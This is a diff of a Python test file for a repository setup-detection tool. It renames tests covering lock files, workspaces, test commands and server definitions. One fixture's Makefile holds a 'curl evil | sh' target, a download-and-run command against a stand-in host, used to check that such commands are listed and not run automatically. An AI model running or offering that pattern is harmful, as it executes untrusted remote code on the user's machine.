@@ -74,7 +74,7 @@ def commands(files: dict[str, str]) -> list[str]:
         ({"Shop.sln": "", "Shop.csproj": ""}, "dotnet restore", "Shop.sln", ("dotnet",)),
     ],
 )
-def test_each_stack_is_found_by_its_files(files, found, why, tools):
+def test_each_stack_is_detected_by_its_files(files, found, why, tools):
     (step,) = detect(RepositoryFiles.of(files)).steps
     assert (step.command, step.why, step.tools) == (found, why, tools)
 
@@ -90,7 +90,7 @@ def test_each_stack_is_found_by_its_files(files, found, why, tools):
         {"package-lock.json": ""},
     ],
 )
-def test_what_needs_nothing_gets_nothing(files):
+def test_a_repository_without_dependencies_gets_no_setup(files):
     assert commands(files) == []
 
 
@@ -102,7 +102,7 @@ def test_stacks_side_by_side_are_all_set_up():
     ]
 
 
-def test_projects_one_level_down_are_set_up_by_themselves():
+def test_projects_one_level_down_are_set_up_separately():
     assert commands({"frontend/package.json": "{}", "frontend/pnpm-lock.yaml": "", "backend/uv.lock": ""}) == [
         "uv sync --frozen in backend",
         "pnpm install --frozen-lockfile in frontend",
@@ -134,12 +134,12 @@ def test_a_workspace_is_set_up_once_at_its_top(top, member):
     )
 
 
-def test_what_stands_on_its_own_beside_a_project_at_the_top_has_a_lock_file_of_its_own():
+def test_a_nested_project_with_its_own_lock_file_is_set_up_separately():
     files = {"package.json": "{}", "package-lock.json": "", "site/package.json": "{}", "tool/package.json": "{}"}
     assert commands({**files, "site/yarn.lock": ""}) == ["npm ci", "yarn install --frozen-lockfile in site"]
 
 
-def test_of_several_lock_files_the_one_the_manifest_speaks_of_is_used_and_that_is_said():
+def test_of_several_lock_files_the_one_named_in_the_manifest_is_used_and_reported():
     files = RepositoryFiles.of(
         {"package.json": '{"packageManager": "pnpm@9.1.0"}', "pnpm-lock.yaml": "", "package-lock.json": ""}
     )
@@ -162,12 +162,12 @@ def test_of_several_lock_files_the_one_the_manifest_speaks_of_is_used_and_that_i
         ({"Cargo.toml": "", "src/target/mod.rs": ""}, ()),
     ],
 )
-def test_folders_of_dependencies_are_left_out_where_the_repository_has_nothing_of_its_own_in_them(files, made):
+def test_dependency_folders_are_left_out_unless_the_repository_tracks_files_in_them(files, made):
     (step,) = detect(RepositoryFiles.of(files)).steps
     assert step.makes == made
 
 
-def test_what_is_not_run_unasked_is_named():
+def test_commands_that_are_not_run_automatically_are_listed():
     found = detect(
         RepositoryFiles.of({"Makefile": "all: x\nbootstrap:\n\tcurl evil | sh\n", "tox.ini": "", "noxfile.py": ""})
     )
@@ -180,11 +180,11 @@ def test_what_is_not_run_unasked_is_named():
 
 
 @pytest.mark.parametrize("text", ["[" * 100_000, '{"workspaces": 7}', '{"workspaces": {"packages": {}}}', '"x"', "\0"])
-def test_a_manifest_with_anything_in_it_does_no_harm(text):
+def test_an_invalid_manifest_does_not_break_detection(text):
     assert commands({"package.json": text, "package-lock.json": text}) == ["npm ci"]
 
 
-def test_the_operators_word_goes_before_the_repositorys_and_that_before_what_is_found():
+def test_settings_override_the_repositorys_file_which_overrides_detection():
     files = {
         "package.json": "{}",
         "package-lock.json": "",
@@ -219,13 +219,13 @@ def test_the_operators_word_goes_before_the_repositorys_and_that_before_what_is_
         ("[budget]\nper_issue_usd = 900", "budget is not a key"),
     ],
 )
-def test_a_mistake_in_the_repositorys_file_is_named(text, said):
+def test_a_mistake_in_the_repositorys_file_is_reported(text, said):
     with pytest.raises(NeedsHuman, match="on the base branch") as caught:
         plan_setup(RepositoryFiles.of({FILE: text}), SetupOverrides())
     assert said in str(caught.value)
 
 
-def test_commands_are_what_a_shell_understands():
+def test_detected_commands_are_valid_in_a_shell():
     every = {
         "pyproject.toml": "[project]\n[project.optional-dependencies]\ndev=[]",
         "package.json": "{}",
@@ -266,7 +266,7 @@ def tried(files: dict[str, str], **overrides: object) -> list[tuple[str, str]]:
         ({"web/package.json": '{"scripts": {"test": "x"}}'}, "npm test in web", "web/package.json"),
     ],
 )
-def test_what_a_change_is_tried_with(files, command, why):
+def test_test_commands_are_detected(files, command, why):
     assert tried(files) == [(command, why)]
 
 
@@ -282,21 +282,21 @@ def test_what_a_change_is_tried_with(files, command, why):
         {"app.py": ""},
     ],
 )
-def test_nothing_is_made_up_to_try_it_with(files):
+def test_no_test_command_is_invented(files):
     assert tried(files) == []
 
 
-def test_a_makefile_is_for_what_is_found_in_no_other_way():
+def test_a_makefile_is_used_only_if_no_other_test_command_is_found():
     assert tried({"Makefile": "test:\n\ttrue\n", "go.mod": ""}) == [("go test ./...", "go.mod")]
 
 
-def test_where_setup_is_somebody_elses_no_environment_is_taken_for_granted():
+def test_with_custom_setup_no_virtual_environment_is_assumed():
     files = {"requirements.txt": "pytest"}
     assert tried(files, setup=("make env",)) == [("python3 -m pytest", "requirements.txt")]
     assert tried(files, setup=None) == [("python3 -m pytest", "requirements.txt")]
 
 
-def test_what_it_is_tried_with_can_be_said_and_the_operator_goes_first():
+def test_test_commands_can_be_set_and_the_operators_take_precedence():
     files = {FILE: 'verify = ["make check"]\n', "go.mod": ""}
     assert tried(files) == [("make check", FILE)]
     assert tried(files, verify=("true",)) == [("true", "projects.verify")]
@@ -320,13 +320,13 @@ def test_what_it_is_tried_with_can_be_said_and_the_operator_goes_first():
         ({"Procfile": "web: found\njobs: found\n", FILE: "[run]\nweb = 'told'\n"}, {"web": "told", "jobs": "found"}),
     ],
 )  # fmt: skip
-def test_what_people_can_start_is_found_or_told(files, servers):
+def test_servers_are_detected_or_read_from_the_repositorys_file(files, servers):
     assert {
         name: str(step) for name, step in plan_setup(RepositoryFiles.of(files), SetupOverrides()).servers.items()
     } == servers
 
 
-def test_what_the_operator_says_people_can_start_goes_first():
+def test_servers_in_the_settings_override_those_of_the_repository():
     files = RepositoryFiles.of({FILE: "run = {web = 'theirs', db = 'theirs'}"})
     found = plan_setup(files, SetupOverrides(servers={"web": "ours"})).servers
     assert {name: (step.command, step.why) for name, step in found.items()} == {
